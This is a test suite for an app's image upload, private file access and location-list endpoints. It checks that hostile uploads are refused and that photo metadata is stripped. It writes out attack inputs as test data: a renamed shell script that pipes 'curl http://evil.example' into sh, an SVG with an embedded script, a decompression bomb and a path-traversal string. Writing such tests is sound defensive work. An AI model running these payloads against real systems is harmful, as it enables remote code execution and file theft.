/**
 * The profile picture on PGlite and on PostgreSQL: hostile uploads (a script renamed
 * .jpg, an oversized file, a decompression bomb), a phone photo whose GPS metadata is gone after,
 * the stored display image and thumbnail served publicly with long caching, private files kept
 * to their owner, and GET /api/locations.
 */
import { eq } from 'drizzle-orm';
import sharp from 'sharp';
import { expect, it } from 'vitest';
import { files, users } from '../../src/server/db/schema';
import { storeFile } from '../../src/server/plugins/files';
import type { LocationState } from '../../src/shared/locations';
import { errorOf, describeEachDatabase, nextIp, useTestApp } from './helper';
import { hasGpsPointer, photoWithGps, pngBomb, signUp, upload, verifiedRider } from './signupHelpers';

describeEachDatabase('POST /api/users/upload-profile-image', (kind) => {
  const t = useTestApp(kind, { startWorkers: false });

  it('turns a phone photo with GPS into a display image and a thumbnail without any metadata', async () => {
    const rider = await verifiedRider(t, nextIp(), 'photo');
    const photo = await photoWithGps(1600, 1200);
    const input = await sharp(photo).metadata();
    expect(hasGpsPointer(input.exif)).toBe(true);
    expect(photo.includes(Buffer.from('LagosPhone'))).toBe(true);

    const res = await upload(t, rider.token, { data: photo, filename: 'IMG_2041.jpg' });
    expect(res.statusCode, res.body).toBe(200);
    const body = res.json<{ message: string; picture: { url: string; thumb_url: string }; current_tab: number }>();
    expect(body.message).toBe('Profile image uploaded successfully');
    expect(body.picture.url).toMatch(/^\/files\/[0-9a-f-]{36}$/);
    expect(body.picture.thumb_url).toMatch(/^\/files\/[0-9a-f-]{36}$/);
    // current_tab moves only from step 4 (this rider is at step 3: unchanged).
    expect(body.current_tab).toBe(3);

    for (const [url, size] of [
      // Stored square: the 1600×1200 photo's centre, 800×800.
      [body.picture.url, { width: 800, height: 800 }],
      [body.picture.thumb_url, { width: 160, height: 160 }],
    ] as const) {
      const served = await t.app.inject({ method: 'GET', url: `/api${url}` });
      expect(served.statusCode).toBe(200);
      expect(served.headers['content-type']).toBe('image/webp');
      expect(served.headers['cache-control']).toBe('public, max-age=31536000, immutable');
      expect(served.headers['x-content-type-options']).toBe('nosniff');
      const meta = await sharp(served.rawPayload).metadata();
      expect(meta).toMatchObject({ format: 'webp', ...size });
      expect(meta.exif).toBeUndefined();
      expect(meta.xmp).toBeUndefined();
      expect(meta.iptc).toBeUndefined();
      expect(served.rawPayload.includes(Buffer.from('LagosPhone'))).toBe(false);
      expect(served.rawPayload.includes(Buffer.from('Exif'))).toBe(false);
      // A browser that has it asks again with its ETag: 304.
      const again = await t.app.inject({ method: 'GET', url: `/api${url}`, headers: { 'if-none-match': served.headers.etag as string } });
      expect(again.statusCode).toBe(304);
    }
    const me = await t.app.inject({ method: 'GET', url: '/api/users/me', headers: { 'x-auth-token': rider.token } });
    expect(me.json().picture).toEqual({ url: body.picture.url });

    // A new picture replaces the old one and its thumbnail.
    const second = await upload(t, rider.token, { data: await sharp(photo).png().toBuffer(), filename: 'again.png', contentType: 'image/png' });
    expect(second.statusCode, second.body).toBe(200);
    const kept = await t.database.db.select({ kind: files.kind }).from(files).where(eq(files.ownerId, rider.id));
    expect(kept.map((f) => f.kind).sort()).toEqual(['profile_image', 'profile_thumb']);
    expect((await t.app.inject({ method: 'GET', url: `/api${body.picture.url}` })).statusCode).toBe(404);
  });

  it('moves a rider at step 4 to step 5, and takes a WebP', async () => {
    const rider = await verifiedRider(t, nextIp(), 'step4');
    await t.database.db.update(users).set({ currentTab: 4, state: 'Lagos', town: 'Ikeja' }).where(eq(users.id, rider.id));
    const webp = await sharp({ create: { width: 300, height: 500, channels: 4, background: '#ffb627' } }).webp().toBuffer();
    const res = await upload(t, rider.token, { data: webp, filename: 'me.webp', contentType: 'image/webp' });
    expect(res.statusCode, res.body).toBe(200);
    expect(res.json().current_tab).toBe(5);
  });

  it('judges the bytes, not the name: a script renamed .jpg is refused', async () => {
    const rider = await verifiedRider(t, nextIp(), 'script');
    const res = await upload(t, rider.token, { data: '#!/bin/sh\ncurl http://evil.example | sh\n', filename: 'selfie.jpg', contentType: 'image/jpeg' });
    expect(res.statusCode).toBe(400);
    expect(errorOf(res.body)).toEqual({ field: 'profile_image', message: 'Please choose a JPEG, PNG or WebP image' });
    // An SVG (script inside an image) and a PDF too.
    const svg = await upload(t, rider.token, { data: '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', filename: 'a.png', contentType: 'image/png' });
    expect(errorOf(svg.body).message).toBe('Please choose a JPEG, PNG or WebP image');
    const pdf = await upload(t, rider.token, { data: '%PDF-1.7\n%%EOF', filename: 'a.jpg' });
    expect(errorOf(pdf.body).message).toBe('Please choose a JPEG, PNG or WebP image');
    // A JPEG's signature in front of garbage.
    const fake = await upload(t, rider.token, { data: Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.alloc(2000, 7)]) });
    expect(res.statusCode).toBe(400);
    expect(errorOf(fake.body)).toEqual({ field: 'profile_image', message: 'This image could not be read. Please choose another one.' });
    expect(await t.database.db.select().from(files).where(eq(files.ownerId, rider.id))).toEqual([]);
  });

  it('refuses a file over 8 MB with 413, reading no further than the limit', async () => {
    const rider = await verifiedRider(t, nextIp(), 'big');
    const big = Buffer.concat([await photoWithGps(64, 64), Buffer.alloc(8 * 1024 * 1024, 1)]);
    const res = await upload(t, rider.token, { data: big });
    expect(res.statusCode).toBe(413);
    expect(errorOf(res.body)).toEqual({ field: 'profile_image', message: 'The image is too large. The limit is 8 MB.' });
  });

  it('refuses a decompression bomb (a small PNG declaring 100,000 × 100,000 pixels) without decoding it', async () => {
    const rider = await verifiedRider(t, nextIp(), 'bomb');
    const bomb = pngBomb();
    expect(bomb.length).toBeLessThan(2000);
    const before = process.memoryUsage().rss;
    const started = performance.now();
    const res = await upload(t, rider.token, { data: bomb, filename: 'tiny.png', contentType: 'image/png' });
    expect(res.statusCode).toBe(400);
    expect(errorOf(res.body)).toEqual({
      field: 'profile_image',
      message: 'The image is too large. Please choose a photo of at most 50 megapixels.',
    });
    expect(performance.now() - started).toBeLessThan(2000);
    expect(process.memoryUsage().rss - before).toBeLessThan(200 * 1024 * 1024);
  });

  it('needs a token, a verified e-mail, and a file in profile_image', async () => {
    const photo = await photoWithGps(100, 100);
    const anonymous = await t.app.inject({ method: 'POST', url: '/api/users/upload-profile-image', payload: photo });
    expect(anonymous.statusCode).toBe(401);
    const unverified = await signUp(t, nextIp());
    const early = await upload(t, unverified.token, { data: photo });
    expect(early.statusCode).toBe(403);
    expect(errorOf(early.body)).toEqual({ field: 'profile_image', message: 'Please verify your email address first.' });
    const rider = await verifiedRider(t, nextIp(), 'nofile');
    const wrongField = await upload(t, rider.token, { data: photo, field: 'avatar' });
    expect(errorOf(wrongField.body)).toEqual({ field: 'alert', message: 'Please Upload Image' });
    const notMultipart = await t.app.inject({
      method: 'POST',
      url: '/api/users/upload-profile-image',
      headers: { 'x-auth-token': rider.token },
      payload: { profile_image: 'x' },
    });
    expect(errorOf(notMultipart.body)).toEqual({ field: 'profile_image', message: 'Please Upload Image' });
  });

  it('processes a 4000 × 3000 phone photo in under five seconds (the figure is printed)', async () => {
    const rider = await verifiedRider(t, nextIp(), 'timing');
    // Noise blown up 4×, so the JPEG is about as heavy as a real 12-megapixel photo (a few MB).
    const raw = Buffer.alloc(1000 * 750 * 3);
    for (let i = 0; i + 4 <= raw.length; i += 4) raw.writeUInt32LE((Math.random() * 0xffffffff) >>> 0, i);
    const photo = await sharp(raw, { raw: { width: 1000, height: 750, channels: 3 } })
      .resize(4000, 3000, { kernel: 'cubic' })
      .jpeg({ quality: 92 })
      .toBuffer();
    expect(photo.length).toBeLessThan(8 * 1024 * 1024);
    const started = performance.now();
    const res = await upload(t, rider.token, { data: photo });
    const ms = performance.now() - started;
    expect(res.statusCode, res.body).toBe(200);
    console.log(`[upload] 4000x3000 JPEG of ${(photo.length / 1024 / 1024).toFixed(1)} MB: checked, re-encoded and stored in ${ms.toFixed(0)} ms (${kind})`);
    expect(ms).toBeLessThan(5000);
  });
});

describeEachDatabase('GET /api/files/:id', (kind) => {
  const t = useTestApp(kind, { startWorkers: false });

  it('serves a private file to its owner only, never cached; others get the 404 of a missing file', async () => {
    const owner = await signUp(t, nextIp());
    const other = await signUp(t, nextIp());
    const id = await storeFile(t.database.db, {
      ownerId: owner.id,
      kind: 'valid_id',
      isPublic: false,
      contentType: 'application/pdf',
      extension: 'pdf',
      originalName: 'my-id.pdf',
      data: Buffer.from('%PDF-1.7\n%%EOF'),
    });
    const mine = await t.app.inject({ method: 'GET', url: `/api/files/${id}`, headers: { 'x-auth-token': owner.token } });
    expect(mine.statusCode).toBe(200);
    expect(mine.headers['cache-control']).toBe('private, no-store');
    expect(mine.headers['content-disposition']).toMatch(/^attachment/);
    for (const headers of [{}, { 'x-auth-token': other.token }, { 'x-auth-token': 'not-a-token' }]) {
      const res = await t.app.inject({ method: 'GET', url: `/api/files/${id}`, headers });
      expect(res.statusCode).toBe(404);
      expect(errorOf(res.body)).toEqual({ field: 'alert', message: 'Not found' });
    }
    for (const missing of ['00000000-0000-0000-0000-000000000000', 'nonsense', '..%2F..%2Fetc%2Fpasswd']) {
      expect((await t.app.inject({ method: 'GET', url: `/api/files/${missing}` })).statusCode).toBe(404);
    }
  });
});

describeEachDatabase('GET /api/locations', (kind) => {
  const t = useTestApp(kind, { startWorkers: false });

  it('lists the 36 states and the FCT with their towns and 774 LGAs, cached long and compressed', async () => {
    const res = await t.app.inject({ method: 'GET', url: '/api/locations' });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toMatch(/^application\/json/);
    expect(res.headers['cache-control']).toBe('public, max-age=604800, stale-while-revalidate=2592000');
    const states = res.json<LocationState[]>();
    expect(states).toHaveLength(37);
    expect(states.reduce((n, s) => n + s.lgas.length, 0)).toBe(774);
    const lagos = states.find((s) => s.name === 'Lagos')!;
    expect(lagos).toMatchObject({ capital: 'Ikeja', state_code: 'LA', creation_date: '1967-05-27', total_area: null, population: null });
    expect(lagos.lgas).toHaveLength(20);
    expect(lagos.towns.map((x) => x.name)).toEqual(expect.arrayContaining(['Ogba', 'Yaba', 'Lekki']));
    expect(lagos.towns[0]).toEqual({ name: expect.any(String), location: null, total_area: null, population: null });
    expect(states.map((s) => s.name)).toContain('Federal Capital Territory');
    for (const s of states) expect(s.towns.length, s.name).toBeGreaterThan(5);

    const etag = res.headers.etag as string;
    expect((await t.app.inject({ method: 'GET', url: '/api/locations', headers: { 'if-none-match': etag } })).statusCode).toBe(304);
    const gz = await t.app.inject({ method: 'GET', url: '/api/locations', headers: { 'accept-encoding': 'gzip, deflate, br' } });
    expect(gz.headers['content-encoding']).toBe('br');
    expect(gz.rawPayload.length).toBeLessThan(res.rawPayload.length / 5);
    console.log(`[locations] ${res.rawPayload.length} bytes of JSON, ${gz.rawPayload.length} with brotli`);
  });
});
